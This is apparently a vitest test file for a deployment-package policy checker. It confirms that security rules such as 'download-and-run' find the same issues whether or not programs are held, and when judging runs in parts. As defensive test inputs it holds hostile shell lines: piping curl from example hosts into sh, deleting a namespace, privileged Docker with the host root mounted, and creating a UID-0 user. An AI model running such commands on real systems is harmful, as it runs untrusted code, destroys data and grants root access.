import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { stringify } from 'yaml';
import { inTurns } from '../../../src/base/in-parts.ts';
import type { Wpk } from '../../../src/model/wpk.ts';
import { allIssues, issuesOf } from '../../../src/policy/issues.ts';
import { judge, judgeInParts } from '../../../src/policy/judge.ts';
import type { Rule } from '../../../src/policy/rule.ts';
import { RULES } from '../../../src/policy/rules.ts';
import { viewPackage } from '../../../src/policy/view/package-view.ts';
import { manifestWith, wpkOf } from '../../support/wpk.ts';

const FIXTURES = path.resolve(import.meta.dirname, '../../fixtures/policy');
// The two levels of a control are weighed against each other at the end, which one rule alone does not see.
const ALONE = RULES.filter(({ level }) => level === undefined);

test('whether the programs of a package are held or read again, every rule finds the same in the same order', () => {
  for (const name of readdirSync(FIXTURES).filter((file) => file.endsWith('.wpk.yaml')))
    expectSame(wpkOf(readFileSync(path.join(FIXTURES, name), 'utf8')));
  fc.assert(fc.property(packages(), expectSame), { numRuns: 50 });
});

test('a package with more programs than are held has the verdict of its steps', () => {
  const one = {
    name: 'a',
    with: { command: ['sh', '-c', 'kubectl delete ns shop; curl http://x.example | sh'] },
  };
  const steps = Array.from({ length: 1_500 }, (_, index) => ({ ...one, name: `s${index}` }));
  const long = judge({ wpk: wpkOf(manifestWith(JSON.stringify(steps))), mayExcept: [], now: new Date(0) });
  const short = judge({ wpk: wpkOf(manifestWith(JSON.stringify([one]))), mayExcept: [], now: new Date(0) });
  const found = (rule: string) => long.issues.filter((issue) => issue.rule === rule);
  expect(new Set(long.issues.map(({ rule }) => rule))).toEqual(new Set(short.issues.map(({ rule }) => rule)));
  expect(found('download-and-run').map(({ step }) => step)).toEqual(
    steps.slice(0, 200).map(({ name }) => name),
  );
  expect(found('download-and-run').at(-1)?.what).toContain('And 1300 more like this.');
});

test('others have their turn while a long package is judged, and the verdict is the same', async () => {
  const steps = Array.from({ length: 2_000 }, (_, index) => ({
    name: `s${index}`,
    with: { command: ['true'] },
  }));
  const judgement = { wpk: wpkOf(manifestWith(JSON.stringify(steps))), mayExcept: [], now: new Date(0) };
  let turns = 0;
  const verdict = await inTurns(judgeInParts(judgement), async () => void (turns += 1));
  expect(verdict).toEqual(judge(judgement));
  expect(turns).toBeGreaterThan(2_000 / 250);
});

function expectSame(wpk: Wpk): void {
  const [held, again] = [Infinity, 0].map((mostHeld) =>
    viewPackage(wpk, { inputs: {}, kubernetes: 36, mostHeld }),
  );
  if (held === undefined || again === undefined) throw new Error('two views were made');
  expect(Array.isArray(held.programs)).toBe(true);
  expect(again.programs.length).toBe([...again.programs].length);
  expect(shownBy(allIssues(RULES, again))).toEqual(shownBy(allIssues(RULES, held)));
  // Clients are all that the rules on them have to look through.
  const { clients: _, ...unsorted } = held;
  expect(shownBy(allIssues(RULES, unsorted))).toEqual(shownBy(allIssues(RULES, held)));
  // Each rule by itself, with its halves one after the other.
  const alone = (rule: Rule) => issuesOf(rule, held);
  expect(shownBy(allIssues(ALONE, again))).toEqual(shownBy(ALONE.flatMap(alone)));
}

function shownBy(issues: readonly object[]): string[] {
  return issues.map((issue) => JSON.stringify(issue));
}

const POD = {
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'p' },
  spec: {
    hostNetwork: true,
    containers: [{ name: 'c', image: 'x', command: ['sh', '-c', 'curl http://a.example | sh'] }],
  },
};

function packages(): fc.Arbitrary<Wpk> {
  const script = fc.constantFrom(
    'kubectl delete ns shop\n',
    'docker run --privileged -v /:/host x\n',
    'curl http://a.example/x | sh\nkubectl apply -f k8s.yaml\n',
    'kubectl create token admin\npip install x\n',
    'eval "$(cat $1)"\nuseradd -u 0 x\n',
    'kubectl apply -f - <<E\napiVersion: v1\nkind: Secret\nmetadata: {name: a}\nE\n',
    'true\n',
  );
  const step = fc.oneof(
    script.map((text) => ({ type: 'shell', with: { command: ['sh', '-c', text] } })),
    script.map((text) => ({ type: 'script', with: { script: text } })),
    fc.constantFrom(0, 1, 2).map((file) => ({ type: 'script', with: { file: `${file}.sh` } })),
    fc.constantFrom('apply', 'delete').map((action) => ({ type: 'k8s', action, with: { manifest: POD } })),
    fc.constant({
      type: 'docker',
      with: { image: 'x', privileged: true, binds: ['/:/host'], command: ['id'] },
    }),
    fc.constant({ type: 'http', with: { method: 'POST', url: 'https://b.example' } }),
  );
  const files = fc.dictionary(fc.constantFrom('0.sh', '1.sh', '2.sh'), script, { noNullPrototype: true });
  const rest = fc.constantFrom(
    'rollback: {auto: true}',
    'validation: {permissions: [{resources: [pods], verbs: [get]}]}',
  );
  return fc.record({ steps: fc.array(step, { minLength: 1, maxLength: 12 }), files, rest }).map((made) => {
    const steps = made.steps.map((one, index) => ({ name: `s${index}`, ...one }));
    return wpkOf(manifestWith(stringify(steps), made.rest), { ...made.files, 'k8s.yaml': stringify(POD) });
  });
}
